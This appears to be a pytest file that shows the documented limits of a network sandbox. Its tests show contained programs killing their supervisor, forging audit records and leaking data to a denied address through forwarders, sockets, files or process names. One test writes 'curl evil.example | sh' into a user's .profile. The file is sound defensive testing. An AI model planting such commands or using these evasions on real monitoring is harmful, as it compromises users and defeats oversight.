"""The limits that docs/security-model.md states of what is around a run, each shown.

Each test carries the id of the limit that it shows; `test_named_limits.py` compares them with the page.
"""

from __future__ import annotations

import json
import shutil
import signal
from pathlib import Path

import pytest
from evidence import CAPABILITY, FAIL, PASS, newest_record
from missing import missing
from stage import Y0, Ran, Stage

pytestmark = [pytest.mark.namespace, pytest.mark.enforce]

limit = pytest.mark.limit

DENIED = ("10.99.0.2", "9000")


def at_denied(ran: Ran) -> list[str]:
    """Return what came first to the denied address, by the arrival log."""
    return [a.first for a in ran.arrivals if a.to == "10.99.0.2:9000"]


def passed(ran: Ran) -> bool:
    """Say whether the run passed: what it shows is outside of what is judged."""
    return (ran.record.verdict, ran.code) == (PASS, 0)


@limit("signals")
def test_older_host_lets_a_program_end_its_supervisor_and_claims_nothing(stage: Stage) -> None:
    ran = stage.contained(
        stage.flow(Y0, stage.program("kill_parent.py", *DENIED)), before=stage.older(5)
    )
    assert ran.report["killed"] in {"ok", "about to"}, ran
    assert ran.record.mentions("SUPERVISOR_LOST"), ran.record.text
    assert at_denied(ran) == [], ran
    assert (ran.record.verdict, ran.code) == (CAPABILITY, 3), ran


@limit("signals")
def test_older_host_lets_a_program_end_its_recorder_and_leaves_no_verdict(stage: Stage) -> None:
    program = stage.program("kill_parent.py", *DENIED, "recorder")
    ran = stage.contained(stage.flow(Y0, program), before=stage.older(5))
    assert ran.code == -signal.SIGKILL, ran
    assert ran.stdout == "", ran
    assert not ran.record.complete, ran.record.text
    later = stage.bare(["sleep", "1"])  # the program would have connected by now
    assert at_denied(ran) + at_denied(later) == [], later


@limit("resource-limits")
def test_program_takes_the_supervisor_s_processor_time_and_gets_nothing_for_it(
    stage: Stage,
) -> None:
    ran = stage.contained(stage.flow(Y0, stage.program("limiting.py", "supervisor")))
    assert ran.report["limited"] == "ok", ran
    assert ran.record.mentions("SUPERVISOR_LOST"), ran.record.text
    assert (ran.record.verdict, ran.code) == (CAPABILITY, 3), ran


@limit("resource-limits")
def test_program_keeps_the_recorder_from_writing_and_leaves_no_verdict(stage: Stage) -> None:
    ran = stage.contained(stage.flow(Y0, stage.program("limiting.py", "recorder")))
    assert ran.report["limited"] == "ok", ran
    assert ran.code == 4, ran
    assert not ran.record.complete, ran.record.text


@limit("scheduling")
def test_program_slows_its_supervisor_and_gets_nothing_for_it(stage: Stage) -> None:
    ran = stage.contained(stage.flow(Y0, stage.program("beyond.py", "scheduling", *DENIED)))
    assert ran.report == {"priority": "ok", "policy": "ok", "denied": "ECONNREFUSED"}, ran
    assert at_denied(ran) == [], ran
    assert (ran.record.verdict, ran.code) == (FAIL, 1), ran


@limit("peer-identity")
def test_listener_on_a_unix_socket_sees_the_supervisor(stage: Stage) -> None:
    program = stage.program("beyond.py", "peer", str(stage.folder / "peer.sock"))
    assert stage.bare(program).report == {"peer": "own", "user": "own"}
    ran = stage.contained(stage.flow(Y0, program))
    assert ran.report == {"peer": "parent", "user": "own"}, ran
    assert passed(ran), ran


@limit("own-restrictions")
def test_what_a_program_forbids_itself_does_not_bind_its_supervisor(stage: Stage) -> None:
    program = stage.program("beyond.py", "restricted", "10.99.0.1", "9000", *DENIED)
    bare = stage.bare(program)
    if bare.report["restrict"] != "ok":
        missing("Landlock over TCP ports (Linux 6.7)")
    assert (bare.report["allowed"], bare.report["denied"]) == ("EACCES", "EACCES"), bare
    ran = stage.contained(stage.flow(Y0, program))
    assert (ran.report["allowed"], ran.report["denied"]) == ("ok", "ECONNREFUSED"), ran
    assert at_denied(ran) == [], ran


@limit("multicast-groups")
def test_multicast_group_is_joined_and_not_sent_to(stage: Stage) -> None:
    ran = stage.contained(stage.flow(Y0, stage.program("beyond.py", "group", "239.1.2.3", "9000")))
    assert ran.report == {"join": "ok", "send": "ECONNREFUSED"}, ran
    assert (ran.record.verdict, ran.code) == (FAIL, 1), ran


@limit("resources")
def test_program_may_use_what_its_user_may(stage: Stage) -> None:
    code = (
        "import json, os, resource as r;"
        "found = {n: r.getrlimit(getattr(r, n)) for n in dir(r) if n.startswith('RLIMIT_')};"
        "json.dump(found, open(os.environ['PROBE_REPORT'], 'w'))"
    )
    command = [stage.product.python, "-c", code]
    bare = stage.bare(command).report
    ran = stage.contained(stage.flow(Y0, command))
    assert len(bare) > 10
    assert ran.report == bare, "no limit is set, and none is lifted"
    assert passed(ran), ran


@limit("user-files")
def test_program_writes_any_file_of_its_user(stage: Stage) -> None:
    home = stage.folder / "home"
    home.mkdir()
    stage.own()
    profile = home / ".profile"
    command = ["sh", "-c", f"echo 'curl evil.example | sh' > {profile}"]
    ran = stage.contained(stage.flow(Y0, command, agent={"cwd": "."}))
    assert "evil" in profile.read_text(encoding="utf-8"), ran
    assert passed(ran), ran


def beside(stage: Stage, command: list[str]) -> Ran:
    """Run with the record beside the flow, as `audit` reads it."""
    path = stage.flow(Y0, command)
    ran = stage.execute(stage.product.flowproof("run", str(path), "--format", "json"))
    ran.keep(newest_record(stage.folder / ".flowproof" / "runs"))
    return ran


def audited(stage: Stage) -> int:
    ran = stage.execute(stage.product.flowproof("audit", str(stage.folder), "--format", "json"))
    assert json.loads(ran.stdout)["exit"]["code"] == ran.code
    return ran.code


@limit("older-records")
def test_program_alters_an_older_record_and_the_audit_tells(stage: Stage) -> None:
    first = beside(stage, ["true"])
    assert passed(first), first
    record = first.record.folder / "record.json"
    command = ["sh", "-c", f"sed -i s/pass/fail/ {record}"]
    second = beside(stage, command)
    assert passed(second), second
    assert record.read_text(encoding="utf-8") != first.record.text
    shutil.rmtree(second.record.folder)
    assert audited(stage) == 4


@limit("invented-records")
def test_program_invents_a_record_and_the_audit_believes_it(stage: Stage) -> None:
    runs = stage.folder / ".flowproof" / "runs"
    first = beside(stage, ["true"])
    assert passed(first), first
    forge = " ".join(stage.program("forging.py", str(runs)))
    reach = " ".join(stage.program("reach.py", "tcp", *DENIED))
    second = beside(stage, ["sh", "-c", f"{forge}; {reach}"])
    assert second.code == 1, second  # the run itself is told what it was
    assert len(list(runs.iterdir())) == 3, second
    assert audited(stage) == 0, "the forged one is the newest"


@limit("shared-addresses")
def test_another_name_of_an_allowed_address_is_open(stage: Stage) -> None:
    rules = {**Y0, "probe.api": "allow connect to allowed.flow.test"}
    program = stage.program("reach.py", "tcp", "shared.flow.test", "9000")
    ran = stage.contained(stage.flow(rules, program))
    assert ran.reached("10.99.0.1", "fd00:99::1") == 2, ran
    assert passed(ran), ran


@limit("names-at-start")
def test_name_stands_for_whatever_it_led_to_at_the_start(stage: Stage) -> None:
    rules = {**Y0, "probe.api": "allow connect to denied.flow.test"}
    ran = stage.contained(stage.flow(rules, stage.program("reach.py", "tcp", *DENIED)))
    assert at_denied(ran) == ["tcp probe"], ran
    assert passed(ran), ran


@limit("loopback")
def test_forwarder_on_loopback_carries_on_and_is_named(stage: Stage) -> None:
    outside = stage.program("outside.py", "forward", "7321", *DENIED, "--")
    code = (
        "import socket; s = socket.create_connection(('127.0.0.1', 7321));"
        "s.sendall(b'by a forwarder'); s.recv(1)"
    )
    path = stage.flow(Y0, [stage.product.python, "-c", code])
    ran = stage.contained(path, before=outside)
    assert at_denied(ran) == ["by a forwarder"], ran
    (through,) = ran.record.through
    assert (through["destination"], through["port"]) == ("127.0.0.1", 7321), ran
    assert "except through these" in ran.stdout + ran.stderr, ran
    assert passed(ran), ran


@limit("loopback")
def test_who_connects_to_a_listener_of_the_run_carries_on(stage: Stage) -> None:
    outside = stage.program("outside.py", "caller", "7322", *DENIED, "--")
    ran = stage.contained(
        stage.flow(Y0, stage.program("telling.py", "serve", "7322")), before=outside
    )
    assert at_denied(ran) == ["to who asks"], ran
    assert passed(ran), ran


@limit("allowed-sockets")
def test_broker_that_a_rule_allows_carries_on_and_is_named(stage: Stage) -> None:
    path = str(stage.folder / "broker.sock")
    rules = {**Y0, "probe.broker": f"allow connect to unix:{path}"}
    outside = stage.program("outside.py", "broker", path, *DENIED, "--")
    ran = stage.contained(stage.flow(rules, stage.program("ask_broker.py", path)), before=outside)
    assert at_denied(ran) == ["through a broker"], ran
    assert len(ran.record.through) == 1, ran
    assert passed(ran), ran


@limit("allowed-destinations")
def test_what_is_sent_to_an_allowed_destination_is_not_looked_at(stage: Stage) -> None:
    code = (
        "import socket; s = socket.create_connection(('10.99.0.1', 9000));"
        "s.sendall(b'the secret'); s.recv(1)"
    )
    ran = stage.contained(stage.flow(Y0, [stage.product.python, "-c", code]))
    assert [a.first for a in ran.arrivals] == ["the secret"], ran
    assert passed(ran), ran


@limit("standard-streams")
def test_connection_on_standard_input_is_open(stage: Stage) -> None:
    path = stage.flow(Y0, stage.program("inherited.py", "write", "0"))
    ran = stage.contained(path, before=stage.program("inherited.py", "open", "0", *DENIED))
    assert ran.report == {"write": "ok"}, ran
    assert at_denied(ran) == ["inherited"], ran
    assert passed(ran), ran


@limit("helpers-outside")
def test_who_reads_a_file_of_the_program_carries_on(stage: Stage) -> None:
    letter = stage.folder / "letter"
    outside = stage.program("outside.py", "courier", str(letter), *DENIED, "--")
    code = f"echo by a letter > {letter}.new; mv {letter}.new {letter}; sleep 1"
    ran = stage.contained(stage.flow(Y0, ["sh", "-c", code]), before=outside)
    assert at_denied(ran) == ["by a letter\n"], ran
    assert passed(ran), ran


@limit("what-shows")
def test_name_of_a_process_is_read_outside(stage: Stage) -> None:
    outside = stage.program("outside.py", "reader", *DENIED, "--")
    path = stage.flow(Y0, stage.program("telling.py", "name", "tell-secret"))
    ran = stage.contained(path, before=outside)
    assert at_denied(ran) == ["tell-secret"], ran
    assert passed(ran), ran


@limit("one-kernel")
def test_program_runs_on_the_same_kernel(stage: Stage) -> None:
    boot = Path("/proc/sys/kernel/random/boot_id")
    code = f"cp {boot} {stage.folder}/boot"
    ran = stage.contained(stage.flow(Y0, ["sh", "-c", code]))
    assert (stage.folder / "boot").read_text(encoding="ascii") == boot.read_text(encoding="ascii")
    assert passed(ran), ran


@limit("root")
def test_root_reconfigures_the_network(root_stage: Stage) -> None:
    harness = Path(__file__).parent / "harness"
    shutil.copy(harness / "loopback_link.py", root_stage.programs)
    code = (
        f"import sys; sys.path.insert(0, {str(root_stage.programs)!r});"
        "from loopback_link import add_address; add_address('10.99.0.77')"
    )
    use = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('10.99.0.77', 0))"
    before = root_stage.bare([root_stage.product.python, "-c", use])
    assert before.code != 0, before
    ran = root_stage.contained(root_stage.flow(Y0, [root_stage.product.python, "-c", code]))
    after = root_stage.bare([root_stage.product.python, "-c", use])
    assert after.code == 0, (ran, after)
    assert passed(ran), ran


def test_denied_address_is_refused_to_each_of_these_programs_by_itself(stage: Stage) -> None:
    """The other side of the limits: without a way around, the address gets nothing and the run fails."""
    ran = stage.contained(stage.flow(Y0, stage.program("reach.py", "tcp", *DENIED)))
    assert at_denied(ran) == [], ran
    assert (ran.record.verdict, ran.code) == (FAIL, 1), ran
